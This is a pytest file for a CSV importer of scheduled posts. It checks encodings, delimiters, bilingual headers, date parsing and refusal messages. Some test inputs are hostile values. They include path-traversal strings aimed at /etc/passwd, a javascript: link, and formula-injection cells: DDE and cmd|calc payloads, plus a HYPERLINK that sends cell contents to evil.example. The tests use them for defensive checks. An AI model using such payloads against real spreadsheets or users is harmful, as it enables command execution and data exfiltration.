"""What files of posts look like in the wild, and what is said of each that cannot be relied on."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from datetime import datetime

import pytest

from notices.speak import speak
from posts.csv_bytes import Unreadable
from posts.csv_cells import Values, values
from posts.csv_columns import meaning
from posts.csv_dates import Unclear, order_of, written
from posts.csv_import import MOST_LINES, Sheet, read

GOOD = "text,date\nAnswer comments.,2026-12-01 09:30\nAsk a question.,2026-12-02 09:30\n"


def refused(data: bytes | str) -> str:
    with pytest.raises(Unreadable) as refusal:
        read(data.encode() if isinstance(data, str) else data)
    return speak(refusal.value.sentence)


def texts(data: bytes | str) -> list[str]:
    return [line.cells["text"] for line in read(data.encode() if isinstance(data, str) else data).lines]


def cells(**given: str) -> Values:
    return values({"text": "Hello.", "date": "2026-12-01 09:30", **given}, day_first=None)


def problems(**given: str) -> str:
    return " ".join(map(speak, cells(**given).problems))


# The file as a whole


def test_a_plain_file_is_read_with_its_line_numbers() -> None:
    sheet = read(GOOD.encode())
    assert [(line.number, line.cells["date"]) for line in sheet.lines] == [
        (2, "2026-12-01 09:30"),
        (3, "2026-12-02 09:30"),
    ]
    assert sheet.columns == {"text": "text", "date": "date"}


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_delimiter_is_found_by_the_columns_it_makes(delimiter: str) -> None:
    row = delimiter.join(['"a, b; c | d"', "2026-12-01"])
    assert texts(f"text{delimiter}date\n{row}\n") == ["a, b; c | d"]


def test_excels_own_line_about_the_delimiter_is_heeded() -> None:
    assert texts("sep=;\r\ntext;date\r\nHello, you;2026-12-01\r\n") == ["Hello, you"]


def test_a_file_of_one_column_keeps_its_commas() -> None:
    assert texts("text\nHello, you, and you\n") == ["Hello, you, and you"]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_every_kind_of_line_end_gives_the_same_lines(end: str) -> None:
    assert texts(GOOD.replace("\n", end)) == ["Answer comments.", "Ask a question."]


def test_mixed_line_ends_blank_lines_and_quoted_newlines_are_told_apart() -> None:
    sheet = read(b'text,date\r\n"One\nand\r\nmore",2026-12-01\r\n\r\n,\nTwo,2026-12-02\rThree,2026-12-03')
    assert [(line.number, line.cells["text"]) for line in sheet.lines] == [
        (2, "One\nand\r\nmore"),
        (5, "Two"),
        (6, "Three"),
    ]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_utf_8_and_marked_utf_16_are_read(encoding: str) -> None:
    assert texts("texte;date\nDéjà vu 🎉;2026-12-01\n".encode(encoding)) == ["Déjà vu 🎉"]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ("text\nDéjà vu, hélas\n".encode("cp1252"), "Windows-1252"),
        ("text\nDéjà vu, hélas\n".encode("mac_roman"), "Mac OS Roman"),
        ("text\nhello there\n".encode("utf-16-le"), "UTF-16 without the mark"),
        ("text\nhello\n".encode("utf-32"), "UTF-32"),
        (b"\xff\xfet\x00e\x00\x00", "breaks off inside a character"),
        ("text\nDéjà, déjà, déjà\nété".encode() + b"\xe9\n", "Line 3 of this file holds a broken character"),
        (b"text\nhello\x00there\n", "Line 2 of this file holds a NUL"),
        (b"", "empty"),
        (b"\xef\xbb\xbf \r\n", "empty"),
        (b"%PDF-1.7 text,date", "a PDF document"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old Excel workbook"),
        (b"\x89PNG\r\n", "an image"),
        (b"<!doctype html><title>Sign in", "a web page"),
        (b"text,date\n", "no posts below it"),
        (b"date,channel\n2026-12-01,Atelier\n", "The column with the texts is missing"),
        (b"text,message\na,b\n", "“text” and “message” mean the same"),
        (b'text,date\n"never closed,2026-12-01\nmore,2026-12-02\n', "opened and never closed"),
        (b'text,date\n"half" quoted,2026-12-01\n', "without being doubled"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_file_that_cannot_be_relied_on_is_refused_in_a_sentence(data: bytes, words: str) -> None:
    assert words in refused(data)


def test_a_workbook_named_csv_is_refused() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("xl/workbook.xml", "text")
    assert "a workbook (Excel, LibreOffice) or a ZIP archive" in refused(packed.getvalue())


def test_the_way_to_save_it_right_is_said() -> None:
    assert "CSV UTF-8 (comma delimited)" in refused("text\né".encode("cp1252"))


def test_a_file_of_more_than_ten_megabytes_is_refused_unparsed() -> None:
    assert "64 MB; 10 MB is the most" in refused(b"text\n" + b"x" * (64 * 2**20 - 5))


def test_a_cell_of_more_than_a_megabyte_is_refused() -> None:
    assert "larger than 1 MB" in refused("text,date\n" + "x" * (2**20 + 1) + ",2026-12-01\n")


def test_a_hundred_thousand_lines_are_refused_with_the_limit_named() -> None:
    """Only the first of them are ever held: seen to fail when all were put in a list first."""
    data = b"text,date\n" + b"Answer comments within the hour.,2026-12-01 09:30\n" * 100_000
    tracemalloc.start()
    said = refused(data)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "100000 posts" in said
    assert str(MOST_LINES) in said
    assert peak < 64 * 2**20


def test_as_many_lines_as_are_allowed_are_read() -> None:
    assert len(read(b"text\n" + b"Hello.\n" * MOST_LINES).lines) == MOST_LINES


def test_unknown_columns_are_named() -> None:
    assert read(b"text,Campaign,Mood\nHello.,Spring,good\n").unknown == ("Campaign", "Mood")


def test_a_line_with_more_cells_than_the_header_is_a_problem_not_a_loss() -> None:
    (line,) = read(b"text,date\nHello, you,2026-12-01\n").lines
    assert line.problem
    assert "3 cells, the header 2" in speak(line.problem)


def test_a_file_without_a_header_is_hootsuites() -> None:
    sheet = read(b"12/25/2026 10:00,Merry Christmas!,https://example.org/x\n")
    assert (sheet.lines[0].number, sheet.lines[0].cells["text"], sheet.day_first) == (1, "Merry Christmas!", False)


# Its columns


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("Message", "text"), ("Contenu", "text"), ("CAPTION", "text"), ("Légende", "text"),
        ("postAtSpecificTime", "date"),
        ("Scheduled At", "date"), ("Date de publication", "date"), ("Date (DD/MM/YYYY)", "date"), ("Heure", "time"),
        ("Posting Time", "time"), ("Social Profiles", "channels"), ("Réseau", "channels"), ("compte", "channels"),
        ("Langue", "language"), ("Date d’expiration", "expires"), ("Do not recur after", "expires"),
        ("Catégorie", "category"), ("Répéter tous les", "every"), ("unit", "unit"), ("max repeats", "repeats"),
        ("Nombre de répétitions", "repeats"), ("jusqu'au", "until"), ("Link URL", "link"), ("imageUrls", "media"),
        ("Picture Url 3", "media"), ("Mood", ""), ("", ""),
    ],
)  # fmt: skip
def test_headers_are_known_in_both_languages_however_they_are_spelt(header: str, field: str) -> None:
    assert meaning(header) == field


@pytest.mark.parametrize(
    "header",
    [
        "Text,Image URL,Scheduled At,Profile,Tags",
        "text,link,imageUrls,gifUrls,videoUrls,postAtSpecificTime",
        "Text,Date,Time,Draft,Picture Url 1,Picture Url 2",
        "post,platforms,mediaUrls,scheduleDate",
        "scheduled_at,account_id,content,media_urls,first_comment",
    ],
)
def test_the_templates_of_other_schedulers_are_understood(header: str) -> None:
    sheet = read((header + "\n" + ",".join("x" for _ in header.split(","))).encode())
    assert {"text", "date"} <= set(sheet.columns)


# Its cells


@pytest.mark.parametrize(
    ("told", "at"),
    [
        ("2026-12-01 09:30", datetime(2026, 12, 1, 9, 30)),
        ("2026-12-01T09:30:15", datetime(2026, 12, 1, 9, 30, 15)),
        ("2026/12/01 9:30 PM", datetime(2026, 12, 1, 21, 30)),
        ("25/12/2026 14h30", datetime(2026, 12, 25, 14, 30)),
        ("25/12/2026 à 14 h", datetime(2026, 12, 25, 14)),
        ("12/25/26 12:05 am", datetime(2026, 12, 25, 0, 5)),
        ("3.12.2026 09:30", datetime(2026, 12, 3, 9, 30)),
        ("5/5/2026", datetime(2026, 5, 5)),
        ("1er décembre 2026 14:00", datetime(2026, 12, 1, 14)),
        ("mardi 1 déc. 2026, 14:00", datetime(2026, 12, 1, 14)),
        ("Dec 1, 2026 10:00 AM", datetime(2026, 12, 1, 10)),
        ("1 August 2026 at 10:00", datetime(2026, 8, 1, 10)),
    ],
)
def test_dates_are_read_as_people_write_them(told: str, at: datetime) -> None:
    assert written(told, None).at == at


def test_an_offset_in_the_cell_is_kept() -> None:
    assert written("2026-12-01T09:30:00Z", None).at.isoformat() == "2026-12-01T09:30:00+00:00"
    assert written("2026-12-01 09:30 +0530", None).at.isoformat() == "2026-12-01T09:30:00+05:30"


@pytest.mark.parametrize(
    ("told", "words"),
    [
        ("46110.5", "as Excel counts it"),
        ("46110", "as Excel counts it"),
        ("31/02/2026", "not a date that exists"),
        ("2026-12-01 25:00", "not a date that exists"),
        ("2026-12-01 13:00 pm", "not a date that exists"),
        ("03/04/2026 10:00", "may mean Fri 3 Apr"),
        ("tomorrow", "cannot be read as a date"),
        ("1767225600", "cannot be read as a date"),
        ("2026-12-01 soon", "cannot be read as a date"),
        ("2026-12-01 7", "cannot be read as a date"),
        ("ju 3 2026", "cannot be read as a date"),
        ("2026-12-01T09:30+99:99", "not a date that exists"),
    ],
)
def test_a_date_that_is_unclear_is_never_guessed(told: str, words: str) -> None:
    with pytest.raises(Unclear) as unclear:
        written(told, None)
    assert words in speak(unclear.value.sentence)


def test_one_date_that_can_only_be_read_one_way_decides_for_the_file() -> None:
    assert order_of(["03/04/2026", "13/04/2026"]) is True
    assert order_of(["03/04/2026", "04/13/2026"]) is False
    assert order_of(["03/04/2026"]) is None
    assert order_of(["13/04/2026", "04/13/2026"]) is None


def test_date_and_time_may_stand_in_two_columns_or_in_either() -> None:
    assert cells(date="2026-12-01", time="10:15").at == datetime(2026, 12, 1, 10, 15)
    assert values({"text": "x", "time": "2026-12-01 10:15"}, None).at == datetime(2026, 12, 1, 10, 15)


def test_a_date_without_a_time_says_which_time_is_taken() -> None:
    found = cells(date="2026-12-01")
    assert found.at == datetime(2026, 12, 1, 9)
    assert "09:00 is taken" in speak(found.notes[0])


def test_an_expiry_without_a_time_lasts_that_whole_day() -> None:
    assert cells(expires="2026-12-31").expires == datetime(2026, 12, 31, 23, 59)


@pytest.mark.parametrize(
    ("given", "rule"),
    [
        ({"every": "14", "unit": "days", "repeats": "6"}, (14, "day", 6)),
        ({"every": "every 2 weeks", "repeats": "6"}, (2, "week", 6)),
        ({"every": "tous les 3 mois", "repeats": "4 fois"}, (3, "month", 4)),
        ({"every": "Monthly", "repeats": "4"}, (1, "month", 4)),
        ({"every": "every 14 days, 99 times, no end"}, (14, "day", 99)),
        ({"every": "30"}, (30, "day", None)),
        ({"every": "7", "unit": "jours", "repeats": "infinite"}, (7, "day", None)),
        ({"every": "1 an", "repeats": "2"}, (12, "month", 2)),
    ],
)
def test_rules_are_read_from_numbers_and_words(given: dict[str, str], rule: tuple[int, str, int | None]) -> None:
    found = cells(**given)
    assert ((found.interval, found.unit, found.repeats), found.repeating, found.problems) == (rule, True, [])


@pytest.mark.parametrize("given", [{"every": "no"}, {"repeats": "0"}, {"every": "Never"}, {}])
def test_a_line_that_does_not_repeat_has_no_rule(given: dict[str, str]) -> None:
    assert not cells(**given).repeating


@pytest.mark.parametrize(
    ("given", "words"),
    [
        ({"every": "3 hours"}, "cannot be read as an interval"),
        ({"every": "0 days"}, "cannot be read as an interval"),
        ({"every": "often"}, "cannot be read as an interval"),
        ({"every": "14", "repeats": "many"}, "not a number of repeats"),
        ({"media": "../../etc/passwd"}, "No file is read from there"),
        ({"media": "file:///etc/passwd"}, "No file is read from there"),
        ({"media": "C:\\images\\cat.png"}, "No file is read from there"),
        ({"media": "https://example.org/a.png, ../b.png"}, "No file is read from there"),
        ({"link": "javascript:alert(1)"}, "is not a web address"),
        ({"language": "Klingon!"}, "is not a language"),
        ({"text": "D�j� vu"}, "where a letter was lost"),
        ({"text": "DÃ©jÃ vu"}, "where a letter was lost"),
    ],
)
def test_a_cell_that_is_unclear_stops_its_line(given: dict[str, str], words: str) -> None:
    assert words in problems(**given)


def test_a_link_is_put_below_the_text_once() -> None:
    assert cells(link="https://example.org/a").text == "Hello.\nhttps://example.org/a"
    assert cells(text="See https://example.org/a", link="https://example.org/a").text == "See https://example.org/a"


def test_a_picture_on_the_web_is_said_to_stay_behind() -> None:
    assert "not imported" in speak(cells(media="https://example.org/a.png").notes[0])


def test_several_channels_may_stand_in_one_cell() -> None:
    assert cells(channels="Atelier, Bluesky | X").channels == ("Atelier", "Bluesky", "X")


@pytest.mark.parametrize("told", ["fr", "Français", "FR", "French"])
def test_a_language_is_known_by_code_or_name(told: str) -> None:
    assert cells(language=told).language == "fr"


@pytest.mark.parametrize(
    "cell",
    [
        "@SUM(1)", "\t=1+1", "\n=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "-2+3+cmd|' /C calc'!A0", '"=1+1"', "＝1+1", "＋1", "－1", "＠SUM(1)", "%00=1+1", "a;b", "\ufeff=1+1",
        "DDE(\"cmd\",\"/c calc\")", "'=1+1", " edges ", "a\r\nb", "e\u0301",
    ],
)  # fmt: skip
def test_every_cell_survives_byte_for_byte(cell: str) -> None:
    """Nothing is un-prefixed, trimmed or computed while reading, whatever a spreadsheet would do with it."""
    out = io.StringIO()
    csv.writer(out).writerows([["text", "date"], [cell, "2026-12-01"], [cell, "2026-12-02"]])
    assert texts(out.getvalue()) == [cell, cell]


def test_a_sheet_can_be_kept_as_json() -> None:
    sheet: Sheet = read(GOOD.encode())
    assert json.loads(json.dumps([line.cells for line in sheet.lines]))[0]["text"] == "Answer comments."
